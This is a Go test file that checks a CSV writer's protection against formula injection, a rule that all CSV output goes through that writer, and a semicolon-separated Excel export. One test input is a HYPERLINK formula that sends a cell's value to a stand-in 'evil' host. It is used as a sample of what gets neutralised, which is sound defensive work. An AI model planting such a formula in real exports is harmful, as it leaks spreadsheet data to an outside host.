package csvfile

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestNeutralise: a cell a spreadsheet would take for a formula gets a
// leading quote; numbers and ordinary text stay as they are.
func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil/"&B2,"Facture")`: `'=HYPERLINK("http://evil/"&B2,"Facture")`,
		"-2+3": "'-2+3", "+33 6 12": "'+33 6 12", "@SUM(1)": "'@SUM(1)", "\tx": "'\tx", "\r=1": "'\r=1",
		"-5": "-5", "+12": "+12", "12.50": "12.50", "": "", "Forfait 10 €": "Forfait 10 €", "SER-001": "SER-001",
	} {
		if got := Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
	var b bytes.Buffer
	if err := NewWriter(&b).WriteAll([][]string{{"name", "n"}, {"=1+1", "-3"}}); err != nil {
		t.Fatal(err)
	}
	if b.String() != "name,n\n'=1+1,-3\n" {
		t.Fatalf("written %q", b.String())
	}
}

// TestOneWriterForEveryCSV: no package writes a CSV with encoding/csv's
// own writer, which neutralises nothing.
func TestOneWriterForEveryCSV(t *testing.T) {
	root := filepath.Join("..", "..")
	err := filepath.WalkDir(root, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == "node_modules" || strings.HasPrefix(d.Name(), ".")) && path != root {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") || strings.Contains(path, filepath.Join("internal", "csvfile")) {
			return nil
		}
		src, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if bytes.Contains(src, []byte("csv.NewWriter(")) {
			t.Errorf("%s writes a CSV without csvfile.NewWriter", path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestSpreadsheet: the form French Excel opens in columns: a BOM,
// semicolons, the header said by the caller, cells still inert.
func TestSpreadsheet(t *testing.T) {
	var b bytes.Buffer
	if err := NewWriter(&b).WriteAll([][]string{{"serial", "product"}, {"A-1", "-2+3"}, {"B-2", "Forfait; 10 €"}}); err != nil {
		t.Fatal(err)
	}
	out, err := Spreadsheet(b.Bytes(), func(col string) string {
		return map[string]string{"serial": "Numéro de série", "product": "Produit"}[col]
	})
	if err != nil {
		t.Fatal(err)
	}
	if want := "\ufeffNuméro de série;Produit\nA-1;'-2+3\nB-2;\"Forfait; 10 €\"\n"; string(out) != want {
		t.Fatalf("spreadsheet form %q, want %q", out, want)
	}
}
